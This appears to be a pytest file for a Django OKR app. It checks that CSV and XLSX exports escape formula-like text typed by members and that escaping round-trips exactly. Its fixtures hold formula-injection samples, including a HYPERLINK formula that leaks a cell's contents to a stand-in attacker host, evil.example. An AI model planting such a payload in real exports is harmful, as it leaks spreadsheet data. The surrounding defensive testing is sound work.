"""Formula injection (issue 7, item 6): text a member typed never becomes a live formula in the
admin's export, and the export still imports back exactly."""

import csv
import datetime
import tempfile
from decimal import Decimal, InvalidOperation
from pathlib import Path

import openpyxl
import pytest
from django.core.management import call_command
from hypothesis import given, settings
from hypothesis import strategies as st

from okrflow.actors import SYSTEM
from okrflow.checkins.models import CheckIn
from okrflow.checkins.services import record_checkin
from okrflow.interchange import formulas
from okrflow.interchange.export import export_folder
from okrflow.interchange.loader import import_folder
from okrflow.interchange.tables import COLUMNS, FolderWriter, read_tables
from okrflow.okrs import services as okrs
from okrflow.okrs.models import KeyResult, Objective
from okrflow.org.models import Person
from okrflow.org.services import update_person

HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")',
    "+1",
    "-abc",
    "@SUM(A1)",
    "'=already quoted by its author",
    "''+two quotes",
    "'plain quote",
]
HOSTILE_NAME = "=5+5"
HOSTILE_NOTE = "=1+1"


@pytest.fixture
def hostile(admin, bob, q1):
    """bob titles objectives like formulas, sets his name to one, and a key result aims at -5."""
    objectives = [okrs.create_objective(bob, bob.organization, cycle=q1, title=title)
                  for title in HOSTILE_TITLES]
    kr = okrs.create_key_result(bob, objectives[0], title="-cut incidents", start_value=0, target_value=-5,
                                owner=bob)
    record_checkin(bob, kr, value=-2, confidence=50, note=HOSTILE_NOTE, date=datetime.date(2026, 3, 1))
    update_person(bob, bob, name=HOSTILE_NAME)
    return bob.organization


def _stored():
    return {"titles": sorted(Objective.objects.values_list("title", flat=True)),
            "krs": sorted(KeyResult.objects.values_list("title", "target_value", "current_value")),
            "names": sorted(Person.objects.values_list("email", "name")),
            "notes": sorted(CheckIn.objects.values_list("note", "value"))}


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


def test_the_csv_export_quotes_every_text_a_spreadsheet_would_run(hostile, tmp_path):
    export_folder(hostile, tmp_path / "out")

    cells = []
    for name in COLUMNS:
        with (tmp_path / "out" / f"{name}.csv").open(encoding="utf-8", newline="") as handle:
            cells += [cell for row in csv.reader(handle) for cell in row]
    assert not [c for c in cells if formulas.is_formula_like(c) and not _is_number(c)]
    assert "'" + HOSTILE_TITLES[0] in cells and "'" + HOSTILE_NAME in cells and "'" + HOSTILE_NOTE in cells
    assert "''=already quoted by its author" in cells and "'plain quote" in cells
    assert "-5" in cells and "-2" in cells  # numbers stay numbers, unquoted


def test_the_xlsx_export_holds_text_cells_and_no_formula(hostile, tmp_path):
    export_folder(hostile, tmp_path / "out.xlsx")

    book = openpyxl.load_workbook(tmp_path / "out.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value: c for c in cells if c.data_type == "s"}
    for title in [*HOSTILE_TITLES, HOSTILE_NAME, HOSTILE_NOTE, "-cut incidents"]:
        assert title in texts
    assert texts[HOSTILE_TITLES[0]].quotePrefix  # stays text when the admin edits the cell
    [target] = [row[5] for row in book["key_results.csv"].iter_rows(min_row=2)]
    assert (target.data_type, target.value) == ("n", -5)


@pytest.mark.parametrize("path", ["folder", "book.xlsx"])
def test_exporting_and_importing_into_the_same_organization_changes_nothing(hostile, tmp_path, path):
    before = _stored()
    export_folder(hostile, tmp_path / path)

    result = import_folder(tmp_path / path, hostile.slug, actor=SYSTEM)

    assert not result.changed
    assert _stored() == before


@pytest.mark.django_db(transaction=True)  # flushing the database needs committed rows on PostgreSQL
@pytest.mark.parametrize("path", ["folder", "book.xlsx"])
def test_importing_the_export_into_a_fresh_database_gives_the_same_titles(hostile, tmp_path, path):
    before = _stored()
    export_folder(hostile, tmp_path / path)
    call_command("flush", interactive=False, verbosity=0)
    assert not Objective.objects.exists()

    import_folder(tmp_path / path, actor=SYSTEM)

    assert _stored() == before


# --- the escape is a bijection ----------------------------------------------------------------

@given(st.text())
def test_unescaping_gives_back_every_escaped_text(text):
    assert formulas.unescape(formulas.escape(text)) == text


@given(st.text())
def test_an_escaped_text_never_starts_like_a_formula(text):
    assert not formulas.is_formula_like(formulas.escape(text))


CSV_TEXT = st.text(st.characters(blacklist_categories=["Cs"], blacklist_characters="\x00"))


@settings(max_examples=60, deadline=None)
@given(CSV_TEXT)
def test_any_text_survives_a_csv_file_written_and_read_back(text):
    with tempfile.TemporaryDirectory() as folder:
        writer = FolderWriter(folder)
        writer.write("units", COLUMNS["units"], [(text, "name", "", "")])
        [(_line, cells)] = list(read_tables(Path(folder))["units"].rows())
    assert cells["code"] == text
